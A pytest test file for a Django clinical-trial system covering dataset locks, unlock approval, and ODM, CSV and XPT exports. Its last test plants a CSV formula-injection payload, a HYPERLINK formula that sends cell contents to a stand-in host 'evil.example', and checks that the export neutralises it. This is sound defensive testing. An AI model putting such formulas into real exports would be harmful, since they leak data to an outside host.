"""Dataset lock and export: the pre-lock checklist, soft and hard locks, and exports of a simulated
trial (ODM 1.3.2 against the official schema, CSV and XPT read back, byte-identical re-export)."""

import csv
import datetime as dt
import hashlib
import io
import json
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent, User
from core.errors import DomainError, NotPermitted
from crf import services as crf
from crf.models import DatasetLock, FormStatus, Query, Visit
from crf.registry import FORMS
from patients.models import Patient
from reports import locking
from reports.dataset import export_dataset, form_columns, plain
from reports.missing import BY_KEY, FORM_CONTEXT
from reports.odm import validate_odm
from tests.crf.factories import scheduled_patient


def _users():
    return {u: User.objects.get(username=u) for u in ("dm", "monitor", "nurse.gb01", "nurse.nl01")}


def _make_lock_ready():
    """What a data manager does before a lock: queries closed, forms complete, SDV done, overdue
    visits recorded as missed."""
    users = _users()
    for query in Query.objects.open().select_related("patient__site"):
        nurse = users[f"nurse.{query.patient.site.code.lower()}"]
        if query.status == Query.Status.OPEN:
            crf.query_answer(query=query, text="Checked.", actor=nurse)
        crf.query_close(query=Query.objects.get(pk=query.pk), actor=users["dm"], text="OK")
    for model in FORMS.values():
        for form in model.objects.filter(status=FormStatus.IN_PROGRESS).select_related("patient__site"):
            crf.crf_mark_complete(form=form, actor=users[f"nurse.{form.patient.site.code.lower()}"])
        for form in model.objects.filter(status=FormStatus.COMPLETE):
            crf.crf_verify(form=form, actor=users["monitor"])
    from crf.access import expected_forms

    for visit in Visit.objects.filter(done_on__isnull=False).exclude(code="LOG").select_related("patient__site"):
        for code in expected_forms(visit):
            if (
                not FORMS[code].REPEATING
                and not FORMS[code].objects.filter(visit=visit).exists()
                and not visit.forms_not_done.filter(form_code=code).exists()
            ):
                crf.crf_mark_not_done(
                    visit=visit,
                    form_code=code,
                    reason="Not collected",
                    actor=users[f"nurse.{visit.patient.site.code.lower()}"],
                )
    today = timezone.localdate()
    for visit in Visit.objects.filter(done_on__isnull=True, missed_reason="", window_end__lt=today).exclude(code="LOG"):
        crf.visit_mark_missed(
            visit=visit, reason="Simulated: not done", actor=users[f"nurse.{visit.patient.site.code.lower()}"]
        )


@pytest.fixture
def simulated(db):
    call_command("simulate_trial", "--patients", "90", "--seed", "7", stdout=io.StringIO())
    return Patient.objects.count()


@pytest.mark.postgres
def test_locked_export_of_a_simulated_trial(simulated, tmp_path):
    assert simulated == 90
    dm = User.objects.get(username="dm")
    # The checklist blocks the lock while a query is open, naming it.
    open_query = Query.objects.open().order_by("patient__trial_number", "pk").first()
    assert open_query is not None
    with pytest.raises(DomainError, match=f"Query {open_query.pk} on {open_query.patient.trial_number}"):
        locking.dataset_lock(actor=dm, reason="Interim analysis")
    _make_lock_ready()
    assert all(not check["blockers"] for check in locking.prelock_checklist())
    lock = locking.dataset_lock(actor=dm, reason="Interim analysis", hard=True)
    first, second = tmp_path / "a", tmp_path / "b"
    manifest = export_dataset(formats=["csv", "odm", "xpt", "sav", "dta"], out=first, actor=dm)
    export_dataset(formats=["csv", "odm", "xpt", "sav", "dta"], out=second, actor=dm)

    # ODM validates against the official schema; subjects and items match the database.
    odm = first / "nelmas-odm.xml"
    validate_odm(odm)
    from lxml import etree

    tree = etree.parse(str(odm))
    ns = {"o": "http://www.cdisc.org/ns/odm/v1.3"}
    assert len(tree.findall(".//o:SubjectData", ns)) == Patient.objects.count() == 90
    items = sum(
        1
        for model in FORMS.values()
        for form in model.objects.all()
        for column in form_columns(model)
        if getattr(form, column.name) not in (None, "")
    )
    # The archive is transactional (every change with its AuditRecord): the last transaction of each
    # data point gives the value as it stands, and the values standing are the database's.
    standing = {}
    for subject in tree.findall(".//o:SubjectData", ns):
        for form in subject.iter(f"{{{ns['o']}}}FormData"):
            event = form.getparent()
            key = (subject.get("SubjectKey"), event.get("StudyEventOID"), event.get("StudyEventRepeatKey"))
            for item in form.iter(f"{{{ns['o']}}}ItemData"):
                point = (*key, form.get("FormOID"), form.get("FormRepeatKey"), item.get("ItemOID"))
                standing[point] = item.get("Value")
    crf_values = [
        value
        for (_s, _e, _r, form, _k, item), value in standing.items()
        if form[2:] in FORMS and not item.endswith(".form_status") and value is not None
    ]
    assert len(crf_values) == items > 90 * 20
    assert tree.findall(".//o:AuditRecord", ns) and tree.findall(".//o:SignatureDef", ns) == []  # none signed yet

    # Byte-identical re-export; the manifest's hashes match the files.
    for entry in manifest["files"]:
        data = (first / entry["file"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert data == (second / entry["file"]).read_bytes(), entry["file"]
    assert manifest["lock"]["id"] == lock.pk and manifest["exported_by"] == "dm"
    on_disk = json.loads((first / "manifest.json").read_text())
    # A form table holds the saved forms and one row for each expected form with no data (issue 25:
    # a form not done, at a missed visit, not applicable or not entered at a done visit has its row).
    demographics = list(csv.DictReader(io.StringIO((first / "demographics.csv").read_text())))
    assert on_disk["tables"]["demographics"] == len(demographics)
    standing_for_absent = [r for r in demographics if r["form_status"] in BY_KEY]
    assert len(demographics) - len(standing_for_absent) == FORMS["demographics"].objects.count()
    # Every RAND visit done or missed is accounted for by exactly one row (saved or standing for it).
    accounted = set(
        Visit.objects.filter(code="RAND", retired_at=None)
        .exclude(done_on=None, missed_reason="")
        .values_list("patient__trial_number", flat=True)
    )
    assert accounted and accounted <= {r["trial_number"] for r in demographics}
    assert len({r["trial_number"] for r in demographics}) == len(demographics)
    assert "initials" not in (first / "patients.csv").read_text()

    # Round trip: CSV and XPT read back equal the database for every field type.
    import pyreadstat

    for code in ("demographics", "histopathology", "liver_resection", "laboratory", "medical_history"):
        model = FORMS[code]
        columns = form_columns(model)
        # The rows standing for forms with no data are checked in test_missing_cells.py.
        rows = [
            r
            for r in csv.DictReader(io.StringIO((first / f"{code}.csv").read_text()))
            if r["form_status"] not in BY_KEY
        ]
        forms = list(
            model.objects.select_related("patient", "visit").order_by("patient__trial_number", "visit__sequence", "pk")
        )
        assert len(rows) == len(forms)
        for row, form in zip(rows, forms, strict=True):
            assert row["trial_number"] == form.patient.trial_number
            for column in columns:
                assert row[column.name] == plain(getattr(form, column.name), column.kind), (code, column.name)
        frame, meta = pyreadstat.read_xport(str(next(first.glob(f"{code.replace('_', '')[:8]}.xpt"))))
        frame = frame[~frame["FORMSTAT"].isin(list(BY_KEY))].reset_index(drop=True)
        assert len(frame) == len(forms)
        names = list(frame.columns)
        context = len(FORM_CONTEXT)
        for index, form in enumerate(forms):
            for position, column in enumerate(columns, start=context):
                value, expected = frame.iloc[index][names[position]], getattr(form, column.name)
                if column.kind in ("integer", "float", "boolean"):
                    if expected is None:
                        assert value != value  # NaN: missing
                    else:
                        assert Decimal(str(value)) == Decimal(str(float(expected))), (code, column.name)
                elif column.kind == "date":  # a SAS date (DATE9), read back as a date
                    assert value == expected if expected else value != value or value is None, (code, column.name)
                else:
                    assert value == plain(expected, column.kind), (code, column.name)
        assert meta.column_labels[context] == columns[0].label[:40]
    assert AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORTED, actor=dm).count() == 2


@pytest.mark.django_db
def test_soft_lock_stops_entry_but_not_query_answers_hard_lock_stops_both(world):
    patient = scheduled_patient(world.site_a)
    rand = patient.visits.get(code="RAND")
    form = crf.crf_save(model=FORMS["demographics"], visit=rand, data={"height_cm": Decimal(170)}, actor=world.nurse_a)
    query = crf.query_raise(form=form, field="height_cm", text="?", actor=world.data_manager)
    # A lock with an open query is refused; force the state the checklist would reach.
    with pytest.raises(DomainError, match="pre-lock checklist"):
        locking.dataset_lock(actor=world.data_manager, reason="Interim")
    with pytest.raises(NotPermitted):
        locking.dataset_lock(actor=world.trial_manager, reason="Interim")
    now = timezone.now()
    lock = DatasetLock.objects.create(
        kind="interim", level="soft", reason="test", locked_by=world.data_manager, locked_at=now
    )
    with pytest.raises(DomainError, match="locked"):
        crf.crf_save(model=FORMS["demographics"], visit=rand, data={"weight_kg": Decimal(70)}, actor=world.nurse_a)
    crf.query_answer(query=query, text="Checked", actor=world.nurse_a)  # still answerable
    locking.dataset_lock(actor=world.data_manager, reason="Final check done", hard=True)
    with pytest.raises(DomainError, match=f"Dataset lock {lock.pk} .*hard lock"):
        crf.query_answer(query=Query.objects.get(pk=query.pk), text="again", actor=world.nurse_a)
    with pytest.raises(DomainError, match="reason"):
        locking.dataset_unlock_request(actor=world.data_manager, reason=" ")
    locking.dataset_unlock_request(actor=world.data_manager, reason="Late SAE follow-up")
    locking.dataset_unlock_approve(actor=world.trial_manager)
    assert AuditEvent.objects.filter(
        kind=AuditEvent.Kind.UNLOCKED, target_id=str(lock.pk), reason="Late SAE follow-up"
    ).exists()
    crf.crf_save(model=FORMS["demographics"], visit=rand, data={"weight_kg": Decimal(70)}, actor=world.nurse_a)


@pytest.mark.django_db
def test_commands_refuse_clearly(tmp_path, world):
    dm = ["--user", world.data_manager.username]
    with pytest.raises(CommandError, match="not locked"):
        call_command("export_dataset", "--format", "csv", "--out", str(tmp_path), *dm)
    with pytest.raises(CommandError, match=r"not an active data manager"):
        call_command("lock_dataset", "--reason", "x", "--user", "nurse")
    call_command("export_dataset", "--format", "csv", "--out", str(tmp_path), "--unlocked", *dm, stdout=io.StringIO())
    manifest = json.loads((tmp_path / "NOT-LOCKED-manifest.json").read_text())
    assert manifest["lock"].startswith("NOT LOCKED")
    assert dt.datetime.fromisoformat(manifest["exported_at"].replace("Z", "+00:00"))


@pytest.mark.django_db
def test_lock_and_background_export_from_the_page(client, world, django_capture_on_commit_callbacks):
    import zipfile

    from reports.models import GeneratedFile

    client.force_login(world.data_manager)
    url = reverse("reports:dataset")
    assert "Pre-lock checklist" in client.get(url).content.decode()
    client.post(url, {"action": "lock", "kind": "interim", "reason": "Interim analysis 1"})
    lock = DatasetLock.current()
    assert lock is not None and lock.level == "soft" and lock.locked_by == world.data_manager
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"action": "export"})
    generated = GeneratedFile.objects.get(kind=GeneratedFile.Kind.DATASET_EXPORT)
    assert response["Location"] == reverse("reports:generated_file", args=[generated.pk])
    assert generated.status == GeneratedFile.Status.DONE
    with zipfile.ZipFile(generated.file.open("rb")) as archive:
        names = archive.namelist()
        manifest = json.loads(archive.read("manifest.json"))
    assert "nelmas-odm.xml" in names and "data_dictionary.csv" in names and "demograp.xpt" in names
    assert manifest["lock"]["id"] == lock.pk
    client.force_login(world.monitor)
    assert client.get(url).status_code == 403
    client.force_login(world.data_manager)
    client.post(url, {"action": "unlock", "reason": ""})
    assert DatasetLock.current() is not None  # a reason is required
    client.post(url, {"action": "unlock", "reason": "Data correction"})
    assert DatasetLock.current() is not None  # a second person approves
    client.force_login(world.trial_manager)
    client.post(url, {"action": "approve_unlock"})
    assert DatasetLock.current() is None


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_in_free_text(world, tmp_path):
    patient = scheduled_patient(world.site_a)
    crf.crf_save(
        model=FORMS["con_med"],
        visit=patient.visits.get(code="LOG"),
        data={"drug": '=HYPERLINK("http://evil.example/?"&A1,"click")', "indication": "+1+1", "dose": "@SUM(1)"},
        actor=world.nurse_a,
    )
    export_dataset(formats=["csv"], out=tmp_path, allow_unlocked=True)
    row = next(csv.DictReader(io.StringIO((tmp_path / "NOT-LOCKED-con_med.csv").read_text())))
    assert row["drug"].startswith("'=HYPERLINK") and row["indication"] == "'+1+1" and row["dose"] == "'@SUM(1)"


pytestmark = pytest.mark.requirement("URS-LOCK-001", "URS-EXP-001", "URS-EXP-002", "URS-EXP-003")
